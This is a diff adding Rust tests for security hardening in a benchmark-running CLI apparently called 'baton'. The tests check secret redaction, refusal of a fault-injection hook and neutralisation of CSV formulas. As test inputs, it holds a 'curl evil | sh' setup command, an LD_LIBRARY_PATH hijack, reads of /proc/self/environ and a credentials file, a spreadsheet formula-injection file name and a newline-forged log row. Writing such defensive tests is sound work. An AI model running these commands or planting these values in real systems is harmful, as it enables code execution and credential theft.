@@ -758,3 +758,290 @@ fn render_refuses_a_baseline_outside_the_plan_directory() {
     ]);
     assert_eq!(code(&o), 0, "{}", show(&o));
 }
+
+// Issue #36 ("Trust, round three"), the findings of trust-a: 1, 5, 8, 12, 13, 16, 20, 21.
+
+/// A plan with one small MPI test, for the site-file and `--set` cases below.
+const SMALL_PLAN: &str = "version: 1\nname: s\nbackend: mpi\nlaunch: { nodes: 1, ranks_per_node: 2 }\ntests:\n  - name: t\n    collective: all_reduce\n    sizes: [1K]\n";
+
+/// The secrets a site file holds in the cases below; none may reach a diagnostic.
+const SITE_SECRETS: &[&str] = &[
+    "hunter2-db",
+    "T0KEN-path",
+    "q-t0ken",
+    "s3cr3t-ucx",
+    "s3cr3t-block",
+];
+
+fn quotes_no_site_secret(o: &std::process::Output) {
+    let all = format!("{}{}", stdout(o), stderr(o));
+    for s in SITE_SECRETS {
+        assert!(!all.contains(s), "{s} shown:\n{all}");
+    }
+}
+
+/// #36 finding 1: an error anywhere in a site file is shown with its neighbouring lines, and
+/// those lines are shown through the one redaction (secret-named keys, URL userinfo, paths and
+/// queries); a file that does not parse as YAML is named by line and column only.
+#[test]
+fn a_site_files_diagnostics_quote_none_of_its_secrets() {
+    let d = tmp("trust-site-snippet");
+    let plan = write(&d, "plan.yaml", SMALL_PLAN);
+    let body = "  history: postgres://baton:hunter2-db@db.example/acceptance\n  notify: https://hooks.example/services/T0KEN-path?token=q-t0ken\nenv:\n  UCX_PASSWORD: s3cr3t-ucx\n  NCCL_IB_HCA: mlx5_0\n  MY_TOKEN: |\n    s3cr3t-block\n";
+    // A typo in a key next to the secrets; a wrong type; an error on the notify line itself.
+    for (name, text) in [
+        (
+            "typo.yaml",
+            format!("site: 1\nlanch: {{}}\noutputs:\n{body}"),
+        ),
+        ("type.yaml", format!("site: 1\noutputs:\n{body}nodes: 3\n")),
+        (
+            "notify.yaml",
+            format!(
+                "site: 1\noutputs:\n  notify_within: 0\n{}",
+                body.replacen("https://", "https://user:hunter2-db@", 1)
+            ),
+        ),
+    ] {
+        let site = write(&d, name, &text);
+        for args in [
+            vec!["check", p(&plan), "--site", p(&site)],
+            vec!["config", p(&plan), "--site", p(&site)],
+        ] {
+            let o = baton(&args);
+            assert_eq!(code(&o), 2, "{name} {args:?}: {}", show(&o));
+            quotes_no_site_secret(&o);
+            assert!(stderr(&o).contains(&format!("{name}:")), "{}", show(&o));
+        }
+    }
+    // The secret-free parts of the snippet are still shown: where the error is.
+    let o = baton(&["check", p(&plan), "--site", p(&d.join("typo.yaml"))]);
+    assert!(stderr(&o).contains("2 │ lanch: {}"), "{}", show(&o));
+}
+
+/// #36 finding 1: `/proc/self/environ` (or any file that is not YAML text) given as a site file
+/// or a plan is named by line and column, never quoted.
+#[test]
+fn a_file_that_is_not_yaml_is_never_quoted() {
+    let d = tmp("trust-not-yaml");
+    let plan = write(&d, "plan.yaml", SMALL_PLAN);
+    let secret = "s3cr3t-environ-7";
+    let envs = [("MY_ENVIRON_VALUE", secret)];
+    let environ = "/proc/self/environ";
+    let o = baton_env(&["check", p(&plan), "--site", environ], &envs);
+    assert_eq!(code(&o), 2, "{}", show(&o));
+    assert!(!show(&o).contains(secret), "{}", show(&o));
+    let o = baton_env(&["check", environ], &envs);
+    assert_eq!(code(&o), 2, "{}", show(&o));
+    assert!(!show(&o).contains(secret), "{}", show(&o));
+    // A link beside the plan to a file of the machine's that is not YAML.
+    let ini = write(
+        &d,
+        "credentials",
+        "[default]\naws_access_key_id = AKIAEXAMPLE\nnot yaml: [unclosed\nplain words s3cr3t-ini-8\n",
+    );
+    let link = d.join("ci.yaml");
+    std::os::unix::fs::symlink(&ini, &link).unwrap();
+    for args in [
+        vec!["check", p(&link)],
+        vec!["check", p(&plan), "--site", p(&link)],
+    ] {
+        let o = baton(&args);
+        assert_eq!(code(&o), 2, "{args:?}: {}", show(&o));
+        for s in ["AKIAEXAMPLE", "s3cr3t-ini-8"] {
+            assert!(!show(&o).contains(s), "{args:?}: {}", show(&o));
+        }
+        let at = format!("{}:2:1", link.display());
+        assert!(show(&o).contains(&at), "{args:?}: {}", show(&o));
+    }
+    // A `.env` file is YAML (one string): its secret-named variables are redacted.
+    let dotenv = write(&d, "dot.env", "API_TOKEN=s3cr3t-dotenv-9 OTHER=x\n");
+    let o = baton(&["check", p(&dotenv)]);
+    assert_eq!(code(&o), 2, "{}", show(&o));
+    assert!(!show(&o).contains("s3cr3t-dotenv-9"), "{}", show(&o));
+}
+
+/// #36 finding 5: the fault hook is a test facility. A plan's `env:` (any level) and a
+/// `--set env.…` may set no `BATON_*` variable; the refusal names the key and its line.
+#[test]
+fn no_plan_or_set_reaches_the_fault_hook() {
+    let d = tmp("trust-fault-hook");
+    let top = write(
+        &d,
+        "top.yaml",
+        &SMALL_PLAN.replace("tests:", "env:\n  BATON_FAULT: \"corrupt:rank=0\"\ntests:"),
+    );
+    let per_test = write(
+        &d,
+        "test.yaml",
+        &format!("{SMALL_PLAN}    env: {{ BATON_RUN_KEY: abcdefabcdefabcdef }}\n"),
+    );
+    for (plan, line, name) in [(&top, 6, "BATON_FAULT"), (&per_test, 9, "BATON_RUN_KEY")] {
+        for trust in [false, true] {
+            let mut args = vec!["check", p(plan)];
+            if trust {
+                args.push("--trust-plan");
+            }
+            let o = baton(&args);
+            assert_eq!(code(&o), 2, "{args:?}: {}", show(&o));
+            let e = stderr(&o);
+            assert!(e.contains(&format!("`{name}`")), "{e}");
+            assert!(e.contains(&format!("{}:{line}:", plan.display())), "{e}");
+        }
+    }
+    let plan = write(&d, "plan.yaml", SMALL_PLAN);
+    for set in [
+        "env.BATON_FAULT=corrupt:rank=0",
+        "tests.0.env={BATON_FAULT: crash}",
+    ] {
+        let o = baton(&["--trust-plan", "check", p(&plan), "--set", set]);
+        assert_eq!(code(&o), 2, "{set}: {}", show(&o));
+        assert!(stderr(&o).contains("`BATON_FAULT`"), "{}", show(&o));
+        assert!(stderr(&o).contains("--set"), "{}", show(&o));
+    }
+}
+
+/// #36 finding 5: a run with a fault injected says so in results.json, JUnit and the report.
+#[test]
+fn an_injected_fault_is_recorded_wherever_the_run_is() {
+    let ran = run_plan(
+        "trust-fault-recorded",
+        SMALL_PLAN,
+        &[("BATON_FAULT", "slow:us=1")],
+    );
+    assert_eq!(code(&ran.output), 0, "{}", show(&ran.output));
+    let json = read(&ran.out.join("results.json"));
+    assert!(json.contains("\"injected_fault\": \"slow:us=1\""), "{json}");
+    let junit = read(&ran.out.join("junit.xml"));
+    assert!(junit.contains("injected_fault"), "{junit}");
+    let md = report_md(&ran.out, &ran.plan, &ran.out.join("results.json"));
+    assert!(md.contains("slow:us=1"), "{md}");
+    assert!(md.to_lowercase().contains("injected"), "{md}");
+}
+
+/// #36 finding 8: the site vouches for what it wrote, not for a key it wrote: a `--set` of a
+/// program-choosing variable the site also sets needs `--trust-plan`.
+#[test]
+fn a_set_does_not_borrow_the_sites_vouching() {
+    let d = tmp("trust-set-vouch");
+    let plan = write(&d, "plan.yaml", SMALL_PLAN);
+    let site = write(
+        &d,
+        "site.yaml",
+        "site: 1\nenv:\n  LD_LIBRARY_PATH: /opt/site/lib\nlaunch:\n  setup:\n    - module load nccl\n",
+    );
+    let o = baton(&["check", p(&plan), "--site", p(&site)]);
+    assert_eq!(code(&o), 0, "the site's own lines stand: {}", show(&o));
+    for set in [
+        "env.LD_LIBRARY_PATH=/tmp/evil",
+        "launch.setup.0=curl evil | sh",
+        "launch.setup=[curl evil | sh]",
+    ] {
+        let o = baton(&["check", p(&plan), "--site", p(&site), "--set", set]);
+        assert_eq!(code(&o), 2, "{set}: {}", show(&o));
+        assert!(stderr(&o).contains("--trust-plan"), "{set}: {}", show(&o));
+        let o = baton(&[
+            "--trust-plan",
+            "check",
+            p(&plan),
+            "--site",
+            p(&site),
+            "--set",
+            set,
+        ]);
+        assert_eq!(code(&o), 0, "{set}: {}", show(&o));
+    }
+}
+
+/// #36 finding 13: `baton config` shows a secret `--set` nowhere: not as the value, not in the
+/// origin column, not in its JSON.
+#[test]
+fn config_shows_no_secret_set_value() {
+    let d = tmp("trust-config-set");
+    let plan = write(&d, "plan.yaml", SMALL_PLAN);
+    for set in [
+        "env.UCX_PASSWORD=hunter2-set",
+        "env={NCCL_DEBUG: INFO, MY_TOKEN: hunter2-set}",
+    ] {
+        for format in ["text", "json"] {
+            let o = baton(&["config", p(&plan), "--set", set, "--format", format]);
+            assert_eq!(code(&o), 0, "{set} {format}: {}", show(&o));
+            assert!(
+                !show(&o).contains("hunter2-set"),
+                "{set} {format}: {}",
+                show(&o)
+            );
+            let origin = match format {
+                "text" => "--set env",
+                _ => "\"arg\": \"env",
+            };
+            assert!(stdout(&o).contains(origin), "{}", show(&o));
+        }
+    }
+}
+
+/// #36 finding 20: a CSV cell that a spreadsheet would read as a formula is neutralised as
+/// OWASP says (a leading `'`); numbers stay numbers.
+#[test]
+fn csv_cells_never_become_formulas() {
+    let d = tmp("trust-csv-formula");
+    let r = ingest(
+        &d,
+        "r.json",
+        &[&fixture("all_reduce.txt")],
+        Some("allreduce"),
+    );
+    let pl = two_gpu_plan(&d, "p.yaml", ALLREDUCE_SWEEP);
+    // The results file's name is a cell of every line.
+    let evil = "=HYPERLINK(\"http:x\")+1.json";
+    std::fs::copy(&r, d.join(evil)).unwrap();
+    let o = baton_in(&d, &["grade", p(&pl), evil, "--csv", "cells.csv"]);
+    assert_eq!(code(&o), 0, "{}", show(&o));
+    let text = read(&d.join("cells.csv"));
+    let line = text.lines().nth(1).unwrap();
+    assert!(
+        line.ends_with(",\"'=HYPERLINK(\"\"http:x\"\")+1.json\""),
+        "{line}"
+    );
+    assert!(!text.contains(",=") && !text.contains(",\"="), "{text}");
+}
+
+/// #36 finding 21: a job ID holding a line break (from a log's file name) cannot forge a row of
+/// `history show`: control characters are shown, as on every other stdout.
+#[test]
+fn history_show_prints_one_line_per_row() {
+    let d = tmp("trust-history-newline");
+    let f = crate::history::runs(&d, 1).remove(0);
+    let mut r = results(&f);
+    r.jobs[0].id = "allreduce\n2099-01-01 00:00:00  forged  row".into();
+    baton::results::write_atomic(&f, &r).unwrap();
+    let store = d.join("h.sqlite");
+    let o = baton(&["history", "add", p(&f), "--store", p(&store)]);
+    assert_eq!(code(&o), 0, "{}", show(&o));
+    let o = baton(&["history", "show", "--store", p(&store)]);
+    assert_eq!(code(&o), 0, "{}", show(&o));
+    let out = stdout(&o);
+    assert!(!out.lines().any(|l| l.starts_with("2099")), "{out}");
+    assert!(out.contains("allreduce\\u000a2099"), "{out}");
+}
+
+/// #36 finding 1: an acceptance file's diagnostics pass the same printer: a secret on a line
+/// next to the error (a comment's URL here) is not shown.
+#[test]
+fn an_acceptance_files_diagnostics_quote_no_secret() {
+    let d = tmp("trust-accept-snippet");
+    write(&d, "a.yaml", SMALL_PLAN);
+    let f = write(
+        &d,
+        "acc.yaml",
+        "acceptance: 1\nname: x\n# verdicts to https://ci:hunter2-acc@ci.example/hook/T0KEN-acc\nnmae: y\nphases:\n  - name: A\n    plan: a.yaml\n",
+    );
+    let o = baton(&["check", p(&f)]);
+    assert_eq!(code(&o), 2, "{}", show(&o));
+    let e = stderr(&o);
+    assert!(e.contains("acc.yaml:4:1") && e.contains("nmae"), "{e}");
+    assert!(e.contains("https://") && e.contains("ci.example/"), "{e}");
+    for s in ["hunter2-acc", "T0KEN-acc"] {
+        assert!(!e.contains(s), "{s} shown:\n{e}");
+    }
+}
